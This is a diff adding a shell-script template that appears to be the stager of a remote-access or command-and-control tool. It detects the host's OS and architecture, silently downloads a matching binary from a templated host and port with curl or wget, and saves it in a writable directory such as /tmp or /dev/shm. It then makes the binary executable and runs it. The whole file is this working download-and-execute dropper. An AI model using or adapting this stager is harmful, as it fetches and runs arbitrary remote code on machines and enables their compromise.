@@ -0,0 +1,34 @@
+#!/bin/sh
+export PATH="$PATH:/usr/local/sbin:/usr/local/bin:/usr/bin:/bin:/sbin"
+
+os=$(uname -s | tr '[:upper:]' '[:lower:]')
+case "$(uname -m)" in
+    x86_64|amd64) arch=amd64 ;;
+    i?86) arch=386 ;;
+    aarch64|arm64) arch=arm64 ;;
+    arm*) arch=arm ;;
+    *) arch=$(uname -m) ;;
+esac
+
+case "$os/$arch" in
+{{- range .Variants}}{{if ne .OS "windows"}}
+    {{.OS}}/{{.Arch}}) name={{.Name}} ;;
+{{- end}}{{end}}
+    *) echo "No client for $os/$arch" >&2; exit 1 ;;
+esac
+
+url="{{.Protocol}}://{{.Host}}:{{.Port}}/$name{{.Query}}"
+
+for dir in "$HOME/.cache" /var/tmp /tmp /dev/shm .; do
+    if [ ! -d "$dir" ] || [ ! -w "$dir" ]; then
+        continue
+    fi
+
+    if command -v curl > /dev/null 2>&1; then
+        curl -fsSL "$url" -o "$dir/$name" || continue
+    elif command -v wget > /dev/null 2>&1; then
+        wget -qO "$dir/$name" "$url" || continue
+    fi
+
+    chmod +x "$dir/$name" && "$dir/$name" && break
+done